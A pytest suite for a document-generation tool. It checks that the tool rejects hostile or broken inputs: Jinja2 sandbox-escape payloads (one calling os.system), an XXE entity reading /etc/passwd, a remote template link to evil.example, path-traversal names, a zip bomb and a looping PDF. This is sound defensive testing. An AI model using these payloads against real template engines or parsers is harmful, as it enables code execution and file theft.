"""Hostile and broken inputs: template injection, bad templates, bad bundle members, names, locks, kills."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from conftest import MINI, ROOT, TEMPLATES, Spawner, have_soffice, session_processes, write_mini
from pypdf import PdfReader, PdfWriter

from docgen.build import properties_for
from docgen.bundle import BundleInfo, Member, assemble_all
from docgen.config import Settings
from docgen.errors import BundleError, InputError, OutputError, TemplateError
from docgen.outputs import output_lock, safe_target
from docgen.plan import KINDS, documents
from docgen.render import preflight, render_docx
from docgen.validate import load_dataset

LEAVE = KINDS["leave"].template_in(TEMPLATES)
CACHE = Settings.from_environment().cache_dir


def _edit(tmp_path: Path, part: str, old: str, new: str, name: str = "t.docx") -> Path:
    target = tmp_path / name
    with zipfile.ZipFile(LEAVE) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == part:
                text = data.decode("utf-8")
                assert old in text, (part, old)
                data = text.replace(old, new, 1).encode("utf-8")
            zout.writestr(item, data)
    return target


def _render(template: Path, tmp_path: Path) -> bytes:
    data = load_dataset(write_mini(tmp_path / "data"))
    job = next(iter(documents(data, TEMPLATES, ["leave"])))
    return render_docx(template, job.build_context(), properties_for(job, "甲方"))


INJECTIONS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.system('id') }}",
    "{{ person.__class__.__init__.__globals__ }}",
]


@pytest.mark.parametrize("payload", INJECTIONS)
@pytest.mark.parametrize(("part", "anchor"), [
    ("word/document.xml", "{{ leave.reason }}"),
    ("word/header1.xml", "{{ doc.number }}"),
    ("word/footer1.xml", "第 "),
])
def test_template_injection_is_blocked_everywhere(tmp_path: Path, part: str, anchor: str, payload: str) -> None:
    template = _edit(tmp_path, part, anchor, payload + anchor)
    with pytest.raises(TemplateError) as exc:
        _render(template, tmp_path)
    assert "t.docx" in str(exc.value)
    assert "SecurityError" in str(exc.value) or "unsafe" in str(exc.value)


def test_core_properties_are_never_rendered(tmp_path: Path) -> None:
    template = _edit(tmp_path, "docProps/core.xml", "<dc:title>", "<dc:title>{{ 7*7 }}{{ ''.__class__ }}")
    from docx import Document

    out = Document(BytesIO(_render(template, tmp_path)))
    assert out.core_properties.title == "运维人员请销假登记表（L1）"


def test_huge_string_is_stopped(tmp_path: Path) -> None:
    template = _edit(tmp_path, "word/document.xml", "{{ leave.reason }}", "{{ 'a' * 1000000000 }}")
    with pytest.raises(TemplateError, match="would build a value of 1000000000 items"):
        _render(template, tmp_path)


@pytest.mark.parametrize(("loop", "message"), [
    ("{% for i in range(10000000) %}x{% endfor %}",
     "Range too big. The sandbox blocks ranges larger than MAX_RANGE (100000)."),
    ("{% for i in range(10**7) %}x{% endfor %}",
     "SecurityError in {% for i in range(10**7) %}: the ** operator is not allowed in templates"),
])
def test_huge_range_is_stopped(tmp_path: Path, loop: str, message: str) -> None:
    template = _edit(tmp_path, "word/document.xml", "{{ leave.reason }}", loop)
    with pytest.raises(TemplateError) as exc:
        _render(template, tmp_path)
    assert exc.type is TemplateError
    assert str(exc.value) == f"{template}: {message}"


def test_output_flood_is_stopped_before_it_exhausts_memory(tmp_path: Path) -> None:
    import resource

    flood = "{% for a in range(100000) %}{% for b in range(100000) %}0123456789{% endfor %}{% endfor %}"
    template = _edit(tmp_path, "word/document.xml", "{{ leave.reason }}", flood)
    data = load_dataset(write_mini(tmp_path / "data"))
    job = next(iter(documents(data, TEMPLATES, ["leave"])))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    with pytest.raises(TemplateError, match="more than 20,000,000 characters of XML in one part"):
        render_docx(template, job.build_context(), properties_for(job, "甲方"), timeout=30)
    assert time.monotonic() - started < 30
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024 < 400  # MB


def test_templates_cannot_grow_lists_in_loops(tmp_path: Path) -> None:
    grow = "{% set x = [] %}{% for a in range(100000) %}{% for b in range(100000) %}{{ x.append(a) or '' }}" \
           "{% endfor %}{% endfor %}"
    template = _edit(tmp_path, "word/document.xml", "{{ leave.reason }}", grow)
    with pytest.raises(TemplateError, match="SecurityError.*append"):
        _render(template, tmp_path)


def test_data_is_never_evaluated_as_a_template(tmp_path: Path) -> None:
    folder = write_mini(tmp_path / "data", **{"leave.yaml": MINI["leave.yaml"].replace(
        "reason: 办理个人事务", "reason: '{ 7*7 } ${x} <b>&amp;'")})
    data = load_dataset(folder)
    job = next(iter(documents(data, TEMPLATES, ["leave"])))
    from test_contracts import docx_text

    text = docx_text(render_docx(job.template, job.build_context(), properties_for(job, "甲方")))
    assert "{ 7*7 } ${x} <b>&amp;" in text


def test_template_delimiters_in_data_are_data(tmp_path: Path) -> None:
    """Data is never evaluated as a template, so braces in it are kept as they are."""
    folder = write_mini(tmp_path / "data", **{"leave.yaml": MINI["leave.yaml"].replace(
        "reason: 办理个人事务", "reason: '{{ 7*7 }} {% raw %}'")})
    assert load_dataset(folder).leave[0].reason == "{{ 7*7 }} {% raw %}"


def test_the_characters_that_mark_data_braces_are_refused_in_data(tmp_path: Path) -> None:
    folder = write_mini(tmp_path / "data", **{"leave.yaml": MINI["leave.yaml"].replace(
        "reason: 办理个人事务", "reason: \"a\\ufdd0b\"")})
    with pytest.raises(InputError, match="contains U\\+FDD0 at position 2"):
        load_dataset(folder)


def _zip(tmp_path: Path, name: str, members: dict[str, bytes]) -> Path:
    path = tmp_path / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in members.items():
            z.writestr(n, data)
    return path


def _write(folder: Path, name: str, data: bytes) -> Path:
    (folder / name).write_bytes(data)
    return folder / name


@pytest.mark.parametrize(("name", "content", "message"), [
    ("empty.docx", lambda: b"", "the file is empty"),
    ("random.docx", lambda: os.urandom(4096), "not a valid DOCX"),
    ("old.docx", lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 2000, "an old .doc or an encrypted file"),
    ("cut.docx", lambda: LEAVE.read_bytes()[:5000], "not a valid DOCX"),
])
def test_broken_templates_are_refused_by_name(tmp_path: Path, name: str, content, message: str) -> None:
    path = _write(tmp_path, name, content())
    with pytest.raises(TemplateError, match=message) as exc:
        preflight(path)
    assert name in str(exc.value)


def test_zip_bomb_macros_entities_and_external_refs_are_refused(tmp_path: Path) -> None:
    base = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
    bomb = _zip(tmp_path, "bomb.docx", {**base, "word/media/x.bin": b"\0" * 50_000_000})
    with pytest.raises(TemplateError, match="zip bomb"):
        preflight(bomb)
    macro = _zip(tmp_path, "macro.docx", {**base, "word/vbaProject.bin": b"x"})
    with pytest.raises(TemplateError, match="macros"):
        preflight(macro)
    xxe = _zip(tmp_path, "xxe.docx", {**base, "word/document.xml":
                                      b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><w:document>&xxe;</w:document>'})
    with pytest.raises(TemplateError, match="DOCTYPE"):
        preflight(xxe)
    remote = _zip(tmp_path, "remote.docx", {**base, "word/_rels/settings.xml.rels":
                  b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                  b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
                  b"</Relationships>"})
    with pytest.raises(TemplateError, match="settings.xml.rels holds an attached template"):
        preflight(remote)


def _pdf(pages: int = 1, password: str | None = None) -> bytes:
    w = PdfWriter()
    for _ in range(pages):
        w.add_blank_page(width=595, height=842)
    if password:
        w.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")
    buf = BytesIO()
    w.write(buf)
    return buf.getvalue()


@pytest.mark.parametrize(("content", "message"), [
    (lambda: _pdf(password="secret"), "encrypted"),
    (lambda: _pdf(3)[:300], "damaged PDF"),
    (lambda: b"<html><body>not a pdf</body></html>", "not a PDF file"),
])
def test_bad_bundle_members_are_named(tmp_path: Path, content, message: str) -> None:
    good = tmp_path / "good.pdf"
    good.write_bytes(_pdf(2))
    bad = tmp_path / "bad member.pdf"
    bad.write_bytes(content())
    info = BundleInfo("b", "汇编", "2026年10月", "澄湖实业集团有限公司", "2026年11月24日", "1")
    with pytest.raises(BundleError, match=message) as exc:
        assemble_all([(info, [Member("文件一", "甲", good), Member("文件二", "乙", bad)])], CACHE)
    assert "bad member.pdf" in str(exc.value)


def test_owner_password_only_member_is_refused(tmp_path: Path) -> None:
    w = PdfWriter()
    w.add_blank_page(width=595, height=842)
    w.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    path = tmp_path / "owner.pdf"
    with path.open("wb") as f:
        w.write(f)
    info = BundleInfo("b", "汇编", "", "甲方", "2026年11月24日", "1")
    with pytest.raises(BundleError, match="encrypted"):
        assemble_all([(info, [Member("文件", "甲", path)])], CACHE)


@pytest.mark.parametrize("name", ["../../etc/x", "CON", "nul", "..", "a/b", "x" * 300])
def test_ids_that_would_make_bad_file_names_are_refused(tmp_path: Path, name: str) -> None:
    folder = write_mini(tmp_path / "data", **{"leave.yaml": MINI["leave.yaml"].replace("id: L1", f"id: '{name}'")})
    with pytest.raises(InputError, match=r"leave\[#1 [^]]*\]\.id"):
        load_dataset(folder)


def test_paths_never_leave_the_output_folder(tmp_path: Path) -> None:
    with pytest.raises(OutputError, match="outside"):
        safe_target(tmp_path, "../escape.pdf")
    with pytest.raises(OutputError, match="outside"):
        safe_target(tmp_path, "/etc/passwd")
    assert safe_target(tmp_path, "a/b.pdf") == (tmp_path / "a/b.pdf").resolve()


def test_second_build_waits_then_names_the_lock_holder(tmp_path: Path) -> None:
    with output_lock(tmp_path):
        started = time.monotonic()
        with pytest.raises(OutputError, match=r"is locked by pid \d+ on .+ since \d{4}-\d\d-\d\d"), \
                output_lock(tmp_path, timeout=0.6):
            pass
        assert time.monotonic() - started >= 0.6
    with output_lock(tmp_path, timeout=0.1):
        pass  # released


def test_output_folder_that_is_a_file_gives_a_clear_error(tmp_path: Path, runner, monkeypatch) -> None:
    from docgen.cli import cli

    monkeypatch.chdir(tmp_path)
    write_mini(tmp_path / "data")
    (tmp_path / "out").write_text("not a folder")
    result = runner.invoke(cli, ["build", "--out", "out"])
    # refused by click before anything runs: a usage error, exit code 2
    assert isinstance(result.exception, SystemExit) and result.exit_code == 2, repr(result.exception)
    assert result.output == ("Usage: cli build [OPTIONS]\nTry 'cli build --help' for help.\n\n"
                             "Error: Invalid value for '--out': Directory 'out' is a file.\n")
    assert (tmp_path / "out").read_text() == "not a folder"


def test_large_ticket_export_is_validated(tmp_path: Path) -> None:
    header, row = MINI["tickets.csv"].splitlines()
    rows = [row.replace("INC-1,", f"INC-{i},") for i in range(100_000)]
    rows[70_000] = rows[70_000].replace(",P1,", ",P9,")
    folder = write_mini(tmp_path / "data", **{"tickets.csv": "\n".join([header, *rows]) + "\n"})
    with pytest.raises(InputError) as exc:
        load_dataset(folder)
    assert [str(p) for p in exc.value.problems] == [
        f"{folder}/tickets.csv:70002:3: tickets.severity: should be one of P1, P2, P3, P4, got 'P9'"]


# Ctrl-C reaches the build as it does in a terminal, even when the tests themselves were started
# with SIGINT ignored (`nohup pytest &`: a child would inherit that, and Python keeps it ignored)
BUILD = [sys.executable, "-c", "import signal; signal.signal(signal.SIGINT, signal.default_int_handler); "
         "from docgen.cli import main; main()", "build", "--data", "data", "--out", "out"]


def _start_build(spawn: Spawner, tmp_path: Path, **env: str) -> subprocess.Popen[bytes]:
    """`docgen build` on the mini data set as a separate process (so a test can signal it)."""
    write_mini(tmp_path / "data")
    return spawn.popen(BUILD, cwd=tmp_path, env=dict(os.environ, PYTHONPATH=str(ROOT / "src"), **env),
                       stdout=subprocess.PIPE, stderr=subprocess.STDOUT)


def _wait_until(ready, seconds: float = 60) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not ready():
        time.sleep(0.05)
    assert ready(), "the build never got that far"


def _outputs_whole(out: Path) -> None:
    for pdf in out.rglob("*.pdf"):
        assert len(PdfReader(pdf).pages) >= 1  # complete, never truncated
    for docx in out.rglob("*.docx"):
        assert zipfile.is_zipfile(docx)


@pytest.mark.skipif(not have_soffice(), reason="LibreOffice is not installed")
@pytest.mark.soffice
def test_killed_build_leaves_old_or_new_files_and_the_next_build_finishes(tmp_path: Path, spawn: Spawner) -> None:
    proc = _start_build(spawn, tmp_path)
    _wait_until(lambda: list((tmp_path / "out").rglob("*.pdf")))
    proc.send_signal(signal.SIGKILL)
    proc.communicate()
    _outputs_whole(tmp_path / "out")
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    done = spawn.run(BUILD, cwd=tmp_path, env=env, timeout=300)
    assert done.returncode == 0, done.stderr
    assert not list((tmp_path / "out").rglob(".docgen-tmp-*"))
    again = spawn.run(BUILD, cwd=tmp_path, env=env, timeout=300)
    assert "Everything is up to date" in again.stdout
    leftovers = [p for p in session_processes().values() if "docgen-lo-profile-" in p]  # this session's only
    assert not leftovers


def test_runaway_loops_are_stopped_by_the_render_time_limit(tmp_path: Path) -> None:
    loops = "{% for a in range(10000) %}{% for b in range(10000) %}{% for c in range(10000) %}{% endfor %}" \
            "{% endfor %}{% endfor %}"
    template = _edit(tmp_path, "word/document.xml", "{{ leave.reason }}", loops)
    data = load_dataset(write_mini(tmp_path / "data"))
    job = next(iter(documents(data, TEMPLATES, ["leave"])))
    with pytest.raises(TemplateError, match="longer than 1 s and was stopped"):
        render_docx(template, job.build_context(), properties_for(job, "甲方"), timeout=1.0)


BIDI_CONTROLS = dict.fromkeys(map(ord, "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"))


def _faces_cover(pdf: Path, text: str) -> set[str]:
    """Characters of `text` that no font embedded in `pdf` has a glyph for (drawn as empty boxes)."""
    from fontTools.ttLib import TTFont

    from docgen.fonts import prepare

    env = dict(os.environ, FONTCONFIG_FILE=str(prepare(CACHE)))
    listing = subprocess.run(["fc-list", ":", "postscriptname", "file"], capture_output=True, text=True, env=env,
                             check=True).stdout
    files = {}
    for line in listing.splitlines():
        path, _, ps = line.partition(": :postscriptname=")
        files[ps.strip()] = path
    fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout.splitlines()[2:]
    covered: set[int] = set()
    for line in fonts:
        name = line.split()[0].split("+", 1)[-1]
        match = max((ps for ps in files if name.startswith(ps)), key=len, default=None)
        assert match is not None, f"embedded font {name} is not one fontconfig knows"
        font = TTFont(files[match], fontNumber=0, lazy=True)
        covered |= set(font.getBestCmap())
    return {ch for ch in text if not ch.isspace() and ord(ch) not in covered}


@pytest.mark.skipif(not have_soffice(), reason="LibreOffice is not installed")
@pytest.mark.parametrize("name", [
    '甲乙 & <Smith> "Q" 株式会社',
    "شركة النور للتقنية 华信",  # Arabic, right to left
    "חברת אור 华信",  # Hebrew, right to left
    "🚀 运维 ✅ 华信 ☎",  # emoji and symbols
    "Ωmega ß Ærø Ĳssel 华信",
])
@pytest.mark.soffice
def test_special_characters_reach_pdf_text_and_metadata_exactly(tmp_path: Path, name: str) -> None:
    from click.testing import CliRunner

    from docgen.cli import cli

    folder = write_mini(tmp_path / "data", **{"vendors.yaml": MINI["vendors.yaml"].replace(
        "name: 华信智维科技有限公司", f"name: '{name}'")})
    result = CliRunner().invoke(cli, ["render", "hx-2026", "nda", "--data", str(folder), "--out", str(tmp_path / "out"),
                                      "--format", "both"])
    assert result.exit_code == 0, result.output
    from docx import Document

    docx = Document(str(next((tmp_path / "out").rglob("*.docx"))))
    assert any(name in p.text for p in docx.paragraphs) or any(
        name in cell.text for table in docx.tables for row in table.rows for cell in row.cells)
    assert docx.core_properties.subject.startswith(name)
    pdf = next((tmp_path / "out").rglob("*.pdf"))
    assert "NotoSerifCJKsc" in subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True).stdout
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    text = text.translate(BIDI_CONTROLS)
    # pdftotext lays right-to-left runs out in display order, so each word is checked on its own
    for word in name.split():
        assert word in text, word
    assert PdfReader(pdf).metadata.subject.startswith(name)
    assert not _faces_cover(pdf, name), "characters without a glyph in any embedded font"


def test_full_disk_keeps_the_old_file_and_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    from docgen.outputs import write_atomic

    target = tmp_path / "out" / "contract.pdf"
    write_atomic(target, b"%PDF-old")

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OutputError, match="No space left on device"):
        write_atomic(target, b"%PDF-new and longer")
    assert target.read_bytes() == b"%PDF-old"
    assert [p.name for p in target.parent.iterdir()] == ["contract.pdf"]


def _can_make_immutable(folder: Path) -> bool:
    """chattr +i makes a folder read-only even for root (the tests may run as root)."""
    if shutil.which("chattr") is None:
        return False
    probe = folder / "probe"
    probe.mkdir()
    made = subprocess.run(["chattr", "+i", str(probe)], capture_output=True).returncode == 0
    if made:
        subprocess.run(["chattr", "-i", str(probe)], check=True)
    probe.rmdir()
    return made


@pytest.fixture
def read_only(tmp_path: Path):
    """Make folders read-only for everyone (root included) for the length of a test."""
    if not _can_make_immutable(tmp_path):
        pytest.skip("chattr +i is not available here (it needs root and ext4-like file systems)")
    locked: list[Path] = []

    def lock(folder: Path) -> Path:
        subprocess.run(["chattr", "+i", str(folder)], check=True)
        locked.append(folder)
        return folder

    yield lock
    for folder in locked:
        subprocess.run(["chattr", "-i", str(folder)], check=True)


def test_read_only_output_folder_gives_one_clear_error(tmp_path: Path, runner, monkeypatch, read_only) -> None:
    from docgen.cli import cli

    monkeypatch.chdir(tmp_path)
    write_mini(tmp_path / "data")
    out = tmp_path / "out"
    out.mkdir()
    read_only(out)
    result = runner.invoke(cli, ["build", "--out", "out"])
    assert result.exit_code == 1
    assert "Error: cannot write to out: Operation not permitted" in result.output
    assert "Traceback" not in result.output
    assert list(out.iterdir()) == []


def test_read_only_subfolder_keeps_the_old_file(tmp_path: Path, read_only) -> None:
    from docgen.outputs import write_atomic

    target = tmp_path / "out" / "contracts" / "hx.pdf"
    write_atomic(target, b"%PDF-old")
    read_only(target.parent)
    with pytest.raises(OutputError, match=f"cannot write to {target.parent}: Operation not permitted"):
        write_atomic(target, b"%PDF-new")
    assert target.read_bytes() == b"%PDF-old"
    assert [p.name for p in target.parent.iterdir()] == ["hx.pdf"]


def test_member_with_a_circular_xref_chain_is_handled(tmp_path: Path) -> None:
    """A PDF whose trailer's /Prev points back at its own cross-reference section (a CVE class)."""
    import re

    base = _pdf(1)
    assert re.findall(rb"startxref\s+(\d+)", base)
    update = (b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n")
    offset = len(base) + 1
    looped = base + update % (offset, offset)
    path = tmp_path / "looped.pdf"
    path.write_bytes(looped)
    info = BundleInfo("b", "汇编", "", "甲方", "2026年11月24日", "1")
    started = time.monotonic()
    try:
        assemble_all([(info, [Member("文件", "甲", path)])], CACHE)
    except BundleError as e:
        assert "looped.pdf" in str(e)
    assert time.monotonic() - started < 30  # completes or fails; never spins


def test_docx_bytes_do_not_depend_on_the_clock(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    data = load_dataset(write_mini(tmp_path / "data"))
    job = next(iter(documents(data, TEMPLATES, ["leave"])))
    first = render_docx(job.template, job.build_context(), properties_for(job, "甲方"))
    later = time.time() + 400 * 86400 + 3 * 3600 + 17  # more than a year later, another hour and second
    monkeypatch.setattr(time, "time", lambda: later)
    monkeypatch.setattr(time, "localtime", lambda secs=None: time.gmtime(later if secs is None else secs))
    second = render_docx(job.template, job.build_context(), properties_for(job, "甲方"))
    assert second == first


@pytest.mark.skipif(not have_soffice(), reason="LibreOffice is not installed")
@pytest.mark.soffice
def test_ctrl_c_during_a_build_stops_every_worker_and_keeps_outputs_whole(tmp_path: Path, spawn: Spawner) -> None:
    proc = _start_build(spawn, tmp_path)
    _wait_until(lambda: list((tmp_path / "out").rglob("*.pdf")))
    proc.send_signal(signal.SIGINT)
    output, _ = proc.communicate(timeout=30)
    assert proc.returncode != 0
    assert b"Traceback" not in output
    _outputs_whole(tmp_path / "out")
    assert not list((tmp_path / "out").rglob(".docgen-tmp-*"))
    # the fixture `leaves_nothing_behind` checks that no LibreOffice process or work folder is left


HANGING_WORKER = """
import json, sys, time
print(json.dumps({"ready": True}), flush=True)
for line in sys.stdin:
    open(sys.argv[-1] + ".request", "w").close()  # tell the test a document is in LibreOffice's hands
    time.sleep(300)
"""


def test_ctrl_c_while_libreoffice_hangs_stops_at_once(tmp_path: Path, spawn: Spawner) -> None:
    """The UNO workers' Python is a stand-in whose 'LibreOffice' never answers: Ctrl-C must not
    wait for the 60 s timeout, and must leave no worker behind."""
    worker = tmp_path / "hanging_worker.py"
    worker.write_text(HANGING_WORKER)
    marker = tmp_path / "started"
    python = tmp_path / "fake-python"
    python.write_text(f'#!/usr/bin/env bash\n[ "$1" = "-c" ] && exit 0\n'
                      f'exec {sys.executable} {worker} "$@" {marker}\n')
    python.chmod(0o755)
    office = tmp_path / "bin" / "soffice"  # never started: the worker above stands in for LibreOffice
    office.parent.mkdir()
    office.write_text("#!/bin/sh\nexit 1\n")
    office.chmod(0o755)
    proc = _start_build(spawn, tmp_path, DOCGEN_UNO_PYTHON=str(python), DOCGEN_CONVERTER="uno",
                        PATH=f"{office.parent}{os.pathsep}{os.environ['PATH']}")
    _wait_until(lambda: Path(f"{marker}.request").exists())
    proc.send_signal(signal.SIGINT)
    output, _ = proc.communicate(timeout=20)  # the per-document timeout is 60 s
    assert proc.returncode != 0
    assert b"Traceback" not in output
    # the fixture `leaves_nothing_behind` checks that no worker process or work folder is left


def test_emoji_in_bundle_contents_is_drawn_and_copies_back(tmp_path: Path) -> None:
    member = tmp_path / "m.pdf"
    member.write_bytes(_pdf(2))
    info = BundleInfo("b", "汇编", "2026年10月", "澄湖实业集团有限公司", "2026年11月24日", "1")
    pdf = tmp_path / "bundle.pdf"
    pdf.write_bytes(assemble_all([(info, [Member("月度运维服务报告", "华信🚀智维", member),
                                          Member("月度运维服务报告", "联创☎网络", member)])], CACHE)[0])
    toc = subprocess.run(["pdftotext", "-f", "2", "-l", "2", str(pdf), "-"], capture_output=True, text=True,
                         check=True).stdout
    assert "华信🚀智维" in toc and "联创☎网络" in toc
    assert not _faces_cover(pdf, "华信🚀智维联创☎网络")
